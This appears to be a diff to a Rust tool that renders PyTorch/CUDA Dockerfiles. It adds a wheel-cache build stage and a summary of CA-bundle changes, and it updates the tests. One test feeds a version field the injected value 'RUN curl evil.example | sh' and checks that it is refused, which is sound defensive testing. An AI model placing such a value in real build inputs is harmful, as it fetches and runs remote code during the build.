@@ -9,6 +9,8 @@
 //! knowledge, whose versions are digits and dots only; `check_values` checks again right here
 //! before rendering, since a Dockerfile is code.
 
+mod ca_bundle;
+
 use std::collections::{BTreeMap, BTreeSet};
 
 use minijinja::{context, Environment, UndefinedBehavior};
@@ -79,6 +81,20 @@ pub(crate) const MAKE_CUDA_STUB: &str = include_str!("../../templates/make-cuda-
 
 /// The file names of a build context beside the Dockerfile.
 pub(crate) const CA_BUNDLE_FILE: &str = "ca-bundle.crt";
+
+/// How a rendered file differs from `current` for `render --check`: a unified diff, or for a CA
+/// bundle the certificates added and removed (a diff of base64 says nothing to a person).
+pub(crate) fn file_change(label: &str, file: &str, current: &str, wanted: &str) -> String {
+    let header = format!("--- a/{label}\n+++ b/{label}\n");
+    if file == CA_BUNDLE_FILE {
+        return format!("{header}{}", ca_bundle::change_summary(current, wanted));
+    }
+    similar::TextDiff::from_lines(current, wanted)
+        .unified_diff()
+        .context_radius(3)
+        .header(&format!("a/{label}"), &format!("b/{label}"))
+        .to_string()
+}
 pub(crate) const CUDA_STUB_SCRIPT: &str = "make-cuda-stub.sh";
 
 /// The template that renders images of `variant`.
@@ -339,8 +355,11 @@ fn render_one(
         cuda_package => image.cuda.replace('.', "-"),
         arch_list => image.archs.join(";"),
         ca_bundle => ca_bundle.map(|_| CA_BUNDLE_FILE),
+        wheel_cache => matrix.wheels == crate::model::matrix::WheelSource::Cache,
         extra_labels => extra_labels,
         title => title,
+        // Without the registry: moving to another registry re-renders no runtime image.
+        repository_path => matrix.repository.clone(),
     };
     // The team's step fragment, rendered with the same values (strict: an unknown name fails).
     let steps = match &image.flavour {
@@ -442,9 +461,9 @@ pub(crate) fn check_values(image: &ImageSpec) -> Result<(), RenderError> {
     }
     version_like("cuda", &image.cuda)?;
     for (field, value) in [
-        ("base_cuda_toolkit", &image.base_cuda_toolkit),
-        ("cuda_runtime", &image.cuda_runtime),
-        ("cuda_nvcc", &image.cuda_nvcc),
+        ("base_cuda_toolkit", image.base_cuda_toolkit.as_deref()),
+        ("cuda_runtime", image.cuda_runtime.as_deref()),
+        ("cuda_nvcc", image.cuda_nvcc.as_deref()),
     ] {
         if let Some(value) = value {
             version_like(field, value)?;
@@ -584,7 +603,8 @@ mod tests {
 
     #[test]
     fn rendering_is_deterministic_and_installs_the_lock() {
-        let (images, matrix) = specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\n");
+        let (images, matrix) =
+            specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nwheels: index\n");
         let first = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
         let second = render_all(&images, &matrix, &Templates::embedded(), None).unwrap();
         assert_eq!(first, second);
@@ -651,7 +671,7 @@ mod tests {
     #[test]
     fn torch_from_a_plain_index_installs_the_release_without_suffix() {
         let images = render(
-            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\ntorch_wheels: pypi\nmirrors:\n  pip_index: https://proxy.example.com/pypi/simple\n",
+            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nvariants: [runtime]\ntorch_wheels: pypi\nwheels: index\nmirrors:\n  pip_index: https://proxy.example.com/pypi/simple\n",
             None,
         );
         let text = &images["2.13.0-cuda13.0-cudnn9-runtime-ubuntu24.04"]["Dockerfile"];
@@ -670,7 +690,7 @@ mod tests {
     fn mirrors_cover_every_apt_host_on_both_architectures() {
         let mirrors = "mirrors:\n  apt: http://m.example.com/ubuntu\n  apt_ports: http://m.example.com/ubuntu-ports\n  nvidia_apt: https://m.example.com/nvidia\n  pip_index: https://m.example.com/pypi/simple\n  torch_index: https://m.example.com/torch/whl\n  base_registry: m.example.com/hub\n";
         let images = render(
-            &format!("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nplatforms: [linux/amd64, linux/arm64]\n{mirrors}"),
+            &format!("torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\nplatforms: [linux/amd64, linux/arm64]\nwheels: index\n{mirrors}"),
             None,
         );
         let names: Vec<&String> = images.keys().collect();
@@ -806,7 +826,10 @@ mod tests {
         );
         let runtime = &images["2.13.0-cuda13.0-cudnn9-runtime-debian12"];
         let text = &runtime["Dockerfile"];
-        assert!(text.contains("FROM local/bookworm:13.0\n"), "{text}");
+        assert!(
+            text.contains("FROM local/bookworm:13.0 AS system\n"),
+            "{text}"
+        );
         assert!(text.contains("deb\\.debian\\.org/debian-security/?([[:space:]]|$)#http://m.example.com/debian-security/"), "{text}");
         assert!(
             text.contains(
@@ -882,6 +905,53 @@ mod tests {
     ];
 
     #[test]
+    fn with_the_wheel_cache_a_stage_installs_the_lock_from_the_context_and_the_image_copies_the_venv(
+    ) {
+        let images = render(
+            "torch: [\"2.13\"]\ncuda: [\"13.0\"]\nos: [ubuntu24.04]\ntorch_wheels: pypi\ndevel_toolkit: pypi\n",
+            None,
+        );
+        let mut checked = 0;
+        for (name, files) in &images {
+            let text = &files["Dockerfile"];
+            let stages: Vec<&str> = text
+                .lines()
+                .filter(|line| line.starts_with("FROM "))
+                .collect();
+            assert_eq!(stages.len(), 3, "{name}: {text}");
+            assert!(stages[0].ends_with(" AS system"), "{name}: {text}");
+            assert_eq!(
+                stages[1..],
+                ["FROM system AS venv", "FROM system"],
+                "{name}"
+            );
+            let venv_stage = &text
+                [text.find("FROM system AS venv").unwrap()..text.find("FROM system\n").unwrap()];
+            assert!(
+                venv_stage.contains("COPY wheels/ /opt/imagegen/wheels/"),
+                "{name}: {text}"
+            );
+            assert!(venv_stage.contains(
+                "pip install --no-cache-dir --no-index --find-links /opt/imagegen/wheels --no-deps --require-hashes --only-binary=:all: \\\n      -r /opt/imagegen/requirements.lock \\\n && pip check"
+            ), "{name}: {text}");
+            let image_stage = &text[text.find("FROM system\n").unwrap()..];
+            assert!(
+                !image_stage.contains("wheels/"),
+                "no wheel in a layer of the image: {text}"
+            );
+            let copy = if name.contains("-runtime-") {
+                "COPY --from=venv /opt/venv /opt/venv"
+            } else {
+                "COPY --from=venv /opt/imagegen/venv-added/ /opt/venv/"
+            };
+            assert!(image_stage.contains(copy), "{name}: {text}");
+            assert!(!text.contains("--index-url"), "{name}: {text}");
+            checked += 1;
+        }
+        assert_eq!(checked, 2);
+    }
+
+    #[test]
     fn a_ca_bundle_is_copied_and_installed_into_the_system_store() {
         let ca = CaBundle {
             path: "company-ca.pem".into(),
@@ -894,10 +964,8 @@ mod tests {
         let mut runtimes_checked = 0;
         for (name, files) in &images {
             let text = &files["Dockerfile"];
-            assert!(
-                text.contains("--cert /etc/ssl/certs/ca-certificates.crt"),
-                "{text}"
-            );
+            // With the host-side wheel cache pip reaches no index: the CA serves apt alone.
+            assert!(!text.contains("--cert"), "{text}");
             assert_eq!(
                 files.get(CA_BUNDLE_FILE).is_some(),
                 name.contains("-runtime-")
@@ -928,6 +996,19 @@ mod tests {
             } else {
                 assert!(!text.contains("SSL_CERT_FILE"), "{text}");
             }
+        }
+        // pip inside the build (wheels: index) reaches its index through the proxy's CA.
+        let from_index = render(
+            "torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nwheels: index\n",
+            Some(&ca),
+        );
+        assert_eq!(from_index.len(), 2);
+        for files in from_index.values() {
+            assert!(
+                files["Dockerfile"].contains("--cert /etc/ssl/certs/ca-certificates.crt"),
+                "{}",
+                files["Dockerfile"]
+            );
         }
         // Without ca_bundle nothing changes: no variable, no copy, no --cert.
         let plain = render(
@@ -1011,12 +1092,16 @@ mod tests {
     fn unsafe_values_in_hand_made_specs_are_refused() {
         let (mut images, matrix) =
             specs("torch: [\"2.7\"]\ncuda: [\"12.6\"]\nos: [ubuntu24.04]\nvariants: [runtime]\n");
-        images[0].torch = "2.7.0\nRUN curl evil.example | sh".into();
+        // A version field cannot even hold it: the type refuses the text ...
+        let unsafe_text = "2.7.0\nRUN curl evil.example | sh";
+        assert!(crate::model::axes::VersionText::parse(unsafe_text).is_err());
+        // ... and a field still kept as text (the lock's CUDA runtime) is refused at render.
+        images[0].cuda_runtime = Some(unsafe_text.to_string());
         let error = render_all(&images, &matrix, &Templates::embedded(), None)
             .unwrap_err()
             .to_string();
         assert!(
-            error.contains("refusing to render unsafe value for torch"),
+            error.contains("refusing to render unsafe value for cuda_runtime"),
             "{error}"
         );
     }
